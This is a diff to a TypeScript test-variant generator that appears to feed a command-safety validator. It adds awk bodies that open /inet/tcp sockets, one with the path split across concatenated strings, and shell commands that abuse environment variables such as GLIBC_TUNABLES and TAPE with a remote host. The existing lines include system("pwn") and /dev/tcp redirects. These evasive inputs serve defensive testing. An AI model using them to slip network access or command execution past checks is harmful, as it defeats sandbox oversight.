@@ -676,6 +676,11 @@ export function awkVariants(): Variant[] {
     '# comment\n{ system("pwn") }',
     'BEGIN { a = 1 / 2; system("pwn") / 1 }',
     '/x/ { print > "/dev/tcp/h/1" }',
+    '{ print > "/dev/stdout" "x" }',
+    '{ print > "/dev/stderr" f }',
+    '{ print > "-" }',
+    'BEGIN { getline x < "/in" "et/tcp/0/127.0.0.1/80" }',
+    'BEGIN { while ((getline l < "/inet/tcp/0/h/80") > 0) print l }',
   ];
   for (const name of ["awk", "gawk", "mawk"]) {
     for (const b of bodies) {
@@ -954,6 +959,8 @@ export function unseenVariants(): Variant[] {
       "EXECIGNORE=x ls",
       "for BASH_ENV in x; do ls; done",
       "for npm_config_script_shell in x; do ls; done",
+      "TAPE=host:/dev/st0 tar t",
+      "GLIBC_TUNABLES=x ls",
     ]
   ) out.push({ family: "unseen words", command: c });
   return out;
